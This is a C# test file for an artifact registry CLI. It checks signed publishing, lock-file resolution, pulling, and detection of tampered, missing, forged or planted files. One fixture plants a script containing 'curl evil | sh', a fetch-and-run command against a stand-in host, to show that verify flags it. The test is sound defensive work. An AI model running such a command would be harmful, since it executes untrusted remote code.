using System.Security.Cryptography;
using System.Text.Json;
using CacheRegistry.Cli;
using CacheRegistry.Tests.Infrastructure;

namespace CacheRegistry.Tests.Artifacts;

/// <summary>
/// What a CI pipeline and a developer do with the CLI: publish, resolve a range into cache.lock, pull
/// into a fresh directory, verify, and catch tampering, on both storage configurations.
/// </summary>
[System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
[Collection(BackendCollection.Name)]
public sealed class ArtifactCliTests(BackendInfrastructure infrastructure) : ServerTest(infrastructure)
{
    protected override IReadOnlyDictionary<string, string?> ExtraSettings { get; } = TestAuth.Settings();

    private string _token = null!;

    public override async Task InitializeAsync()
    {
        await base.InitializeAsync();
        _token = (await TestAuth.IssueAsync(Server, "ci-main", "acme:write")).Token;
    }

    [BackendFact]
    public async Task Push_resolve_pull_verify_and_tamper_detection()
    {
        // CI publishes two versions, signed, one of them tagged.
        var (signingKey, trustedKeys) = CreateKeys("ci");
        var release = Directory.CreateDirectory(Path.Combine(WorkDirectory, "release-1.2.3")).FullName;
        await File.WriteAllTextAsync(Path.Combine(release, "tool"), "#!/bin/sh\necho tool 1.2.3\n");
        File.SetUnixFileMode(Path.Combine(release, "tool"), UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        Directory.CreateDirectory(Path.Combine(release, "lib"));
        await File.WriteAllBytesAsync(Path.Combine(release, "lib", "libtool.so"), TestData.Random(200_000, seed: 3));

        var push = await CliAsync("push", "acme/tool@1.2.3", release, "--tag", "stable", "--meta", "target=x86_64-linux-gnu", "--meta", "revision=abc123", "--sign", signingKey);
        Assert.True(push.ExitCode == 0, push.Error);
        Assert.StartsWith("published acme/tool@1.2.3", push.Output);
        var beta = Path.Combine(WorkDirectory, "tool-beta");
        await File.WriteAllTextAsync(beta, "beta build");
        Assert.Equal(0, (await CliAsync("push", "acme/tool@1.3.0-beta.1", beta, "--tag", "next", "--sign", signingKey)).ExitCode);

        // A project depends on ^1.2 and the stable tag; resolve writes the lock.
        var project = Directory.CreateDirectory(Path.Combine(WorkDirectory, "project")).FullName;
        await File.WriteAllTextAsync(Path.Combine(project, "cache.json"), """{ "dependencies": { "acme/tool": "^1.2" } }""");
        var resolve = await CliAsync("resolve", "--project", project);
        Assert.True(resolve.ExitCode == 0, resolve.Error);
        Assert.Contains("acme/tool ^1.2 -> 1.2.3", resolve.Output);
        var lockText = await File.ReadAllTextAsync(Path.Combine(project, "cache.lock"));
        Assert.Contains("\"version\": \"1.2.3\"", lockText);
        Assert.Contains("lib/libtool.so", lockText);

        // Resolving again keeps the lock as it is (round trip), pulling into a fresh directory gets verified files.
        Assert.Equal(0, (await CliAsync("resolve", "--project", project)).ExitCode);
        Assert.Equal(lockText, await File.ReadAllTextAsync(Path.Combine(project, "cache.lock")));
        var pull = await CliAsync("pull", "--project", project);
        Assert.True(pull.ExitCode == 0, pull.Error);
        var pulled = Path.Combine(project, "artifacts", "acme/tool");
        Assert.Equal("#!/bin/sh\necho tool 1.2.3\n", await File.ReadAllTextAsync(Path.Combine(pulled, "tool")));
        Assert.True(File.GetUnixFileMode(Path.Combine(pulled, "tool")).HasFlag(UnixFileMode.UserExecute));
        Assert.Contains("0 downloaded, 2 already present", (await CliAsync("pull", "--project", project)).Output);

        var lockFile = Path.Combine(project, "cache.lock");
        var clean = await CliAsync("verify", "--lock", lockFile, "--trusted-keys", trustedKeys);
        Assert.True(clean.ExitCode == 0, clean.Error);
        Assert.Contains("verified 1 artifacts, 2 files", clean.Output);

        // One flipped byte: verify fails and names the file.
        var library = Path.Combine(pulled, "lib", "libtool.so");
        var bytes = await File.ReadAllBytesAsync(library);
        bytes[1000] ^= 0x01;
        await File.WriteAllBytesAsync(library, bytes);
        var tampered = await CliAsync("verify", "--lock", lockFile);
        Assert.Equal(ExitCodes.Error, tampered.ExitCode);
        Assert.Contains("acme/tool: lib/libtool.so: content changed", tampered.Error);

        // Pull refuses to overwrite the changed file and changes nothing; --force repairs it. Then a missing file and an extra file are both reported.
        var refused = await CliAsync("pull", "--project", project);
        Assert.Equal(ExitCodes.Error, refused.ExitCode);
        Assert.Equal("error: 1 file in " + Path.Combine(project, "artifacts") + " differs from what is pulled (edited here?): acme/tool/lib/libtool.so; --force overwrites them", refused.Error.Trim());
        Assert.NotEqual(TestData.Random(200_000, seed: 3), await File.ReadAllBytesAsync(library));
        var forced = await CliAsync("pull", "--project", project, "--force");
        Assert.Contains("1 downloaded, 1 already present", forced.Output);
        Assert.Contains("overwrote 1 locally changed file(s): lib/libtool.so", forced.Error);
        Assert.Equal(TestData.Random(200_000, seed: 3), await File.ReadAllBytesAsync(library));
        File.Delete(Path.Combine(pulled, "tool"));
        await File.WriteAllTextAsync(Path.Combine(pulled, "planted.sh"), "curl evil | sh");
        var problems = await CliAsync("verify", "--lock", lockFile);
        Assert.Equal(ExitCodes.Error, problems.ExitCode);
        Assert.Contains("acme/tool: tool: missing", problems.Error);
        Assert.Contains("acme/tool: planted.sh: not part of tool@1.2.3", problems.Error);
        File.Delete(Path.Combine(pulled, "planted.sh"));
        Assert.Equal(0, (await CliAsync("pull", "--project", project)).ExitCode);

        // Signatures: a key that is not trusted, and a lock whose signature was tampered with.
        var (_, otherKeys) = CreateKeys("someone-else");
        var untrusted = await CliAsync("verify", "--lock", lockFile, "--trusted-keys", otherKeys);
        Assert.Equal(ExitCodes.Error, untrusted.ExitCode);
        Assert.Contains("no valid signature by a trusted key", untrusted.Error);
        var forgedLock = Path.Combine(project, "forged.lock");
        await File.WriteAllTextAsync(forgedLock, lockText.Replace("\"target\": \"x86_64-linux-gnu\"", "\"target\": \"aarch64-linux-gnu\""));
        var forged = await CliAsync("verify", Path.Combine(project, "artifacts"), "--lock", forgedLock, "--trusted-keys", trustedKeys);
        Assert.Equal(ExitCodes.Error, forged.ExitCode);
        Assert.Contains("does not match its manifest digest", forged.Error);
        Assert.Contains("is not valid", forged.Error);

        // Re-publishing 1.2.3 with other content is refused; the registry and the tag are unchanged.
        await File.WriteAllTextAsync(Path.Combine(release, "tool"), "#!/bin/sh\necho something else\n");
        var republish = await CliAsync("push", "acme/tool@1.2.3", release);
        Assert.Equal(ExitCodes.Error, republish.ExitCode);
        Assert.Contains("already published with other content", republish.Error);

        // Pre-releases only when asked; tags resolve; inspect shows versions, tags and signatures.
        Assert.Contains("1.3.0-beta.1", (await CliAsync("pull", "acme/tool@next", "-o", Path.Combine(WorkDirectory, "next"))).Output);
        Assert.Contains("1.2.3", (await CliAsync("pull", "acme/tool@stable", "-o", Path.Combine(WorkDirectory, "stable"))).Output);
        var inspect = await CliAsync("inspect", "acme/tool");
        Assert.Contains("1.3.0-beta.1", inspect.Output);
        Assert.Contains("stable", inspect.Output);
        Assert.Contains("ci-main", inspect.Output);
        var details = JsonDocument.Parse((await CliAsync("inspect", "acme/tool@1.2.3", "--json")).Output).RootElement;
        Assert.Equal("x86_64-linux-gnu", details.GetProperty("manifest").GetProperty("metadata").GetProperty("target").GetString());
        Assert.Equal(1, details.GetProperty("signatures").GetArrayLength());
    }

    [BackendFact]
    public async Task Resolve_update_moves_the_lock_forward()
    {
        var file = Path.Combine(WorkDirectory, "lib.a");
        await File.WriteAllTextAsync(file, "1.0.0");
        Assert.Equal(0, (await CliAsync("push", "acme/lib@1.0.0", file)).ExitCode);
        var project = Directory.CreateDirectory(Path.Combine(WorkDirectory, "p")).FullName;
        await File.WriteAllTextAsync(Path.Combine(project, "cache.json"), """{ "dependencies": { "acme/lib": "^1" } }""");
        Assert.Equal(0, (await CliAsync("resolve", "--project", project)).ExitCode);

        await File.WriteAllTextAsync(file, "1.1.0");
        Assert.Equal(0, (await CliAsync("push", "acme/lib@1.1.0", file)).ExitCode);
        Assert.Equal(0, (await CliAsync("resolve", "--project", project)).ExitCode);
        Assert.Contains("\"version\": \"1.0.0\"", await File.ReadAllTextAsync(Path.Combine(project, "cache.lock"))); // locked
        Assert.Contains("acme/lib ^1 -> 1.1.0", (await CliAsync("resolve", "--project", project, "--update", "acme/lib")).Output);
        Assert.Contains("\"version\": \"1.1.0\"", await File.ReadAllTextAsync(Path.Combine(project, "cache.lock")));
        Assert.Equal(ExitCodes.NotFound, (await CliAsync("pull", "acme/lib@^9", "-o", Path.Combine(WorkDirectory, "none"))).ExitCode);
    }

    private Task<(int ExitCode, string Output, string Error)> CliAsync(params string[] args) =>
        CliRunner.RunAsync(["--server", Server.BaseAddress.ToString(), "--token", _token, .. args]);

    private (string SigningKey, string TrustedDirectory) CreateKeys(string name)
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var signing = Path.Combine(WorkDirectory, $"{name}-signing.pem");
        File.WriteAllText(signing, key.ExportPkcs8PrivateKeyPem());
        var trusted = Directory.CreateDirectory(Path.Combine(WorkDirectory, $"{name}-trusted")).FullName;
        File.WriteAllText(Path.Combine(trusted, $"{name}.pem"), key.ExportSubjectPublicKeyInfoPem());
        return (signing, trusted);
    }
}
